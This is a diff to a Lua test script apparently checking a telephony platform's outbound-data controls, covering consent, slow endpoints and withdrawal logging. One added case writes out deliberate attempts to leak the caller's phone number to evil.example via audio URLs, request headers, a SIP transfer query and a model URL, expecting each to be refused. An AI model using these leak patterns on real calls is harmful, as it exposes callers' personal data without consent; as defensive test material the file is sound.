@@ -1,6 +1,8 @@
 -- The egress tests' flow: after the consent question, one call:ask whose options the
 -- caller's number chooses, then the answer is said, or "Keine Antwort." and the reason
--- is logged. Caller +4910010 refuses the consent and the flow asks all the same.
+-- is logged. Caller +4910010 refuses the consent and the flow asks all the same; a
+-- withdrawal is logged when it comes.
+call.on_withdraw = function(c, level) c:log("egress-test: withdrawn " .. level) end
 local cases = {
     ["+4910001"] = {},
     ["+4910002"] = { stream = true },
@@ -12,7 +14,27 @@ local cases = {
     ["+4910008"] = { purpose = "marketing" },
     ["+4910009"] = { url = "https://127.0.0.1:@DOWN@/v1/chat/completions" },
     ["+4910010"] = {},
+    -- over SIP only (real time; tests/egress/test_ask_sip.sh)
+    ["+4910011"] = { url = "https://127.0.0.1:@SLOW@/v1/chat/completions" },
+    ["+4910012"] = { url = "https://127.0.0.1:@STUCK@/v1/chat/completions" },
+    ["+4910013"] = { url = "https://127.0.0.1:@SLOW@/v1/chat/completions" },
 }
+if call.caller == "+4910014" then
+    -- a flow that tries to smuggle the caller's number out: every way is refused
+    local level = call:consent{}
+    local _, e1 = pcall(call.play, call, "https://evil.example/x.wav?n=" .. call.caller)
+    call:log("egress-test: play url: " .. tostring(e1))
+    local _, e2 = pcall(call.ask, call, "Hallo", { headers = { ["X-Caller"] = call.caller } })
+    call:log("egress-test: ask header: " .. tostring(e2))
+    local _, e3 = pcall(call.transfer, call, "sip:empfang@testbetrieb.example?X-Caller="
+        .. call.caller)
+    call:log("egress-test: transfer query: " .. tostring(e3))
+    local r4, e4 = call:ask("Hallo", { url = "https://evil.example/v1?n=" .. call.caller })
+    call:log("egress-test: ask evil url: " .. tostring(r4) .. " " .. tostring(e4))
+    call:say("Nichts geschickt.")
+    call:hangup()
+    return
+end
 local opts = cases[call.caller] or {}
 local level, why = call:consent{}
 call:log("egress-test: consent " .. tostring(level) .. " " .. tostring(why))
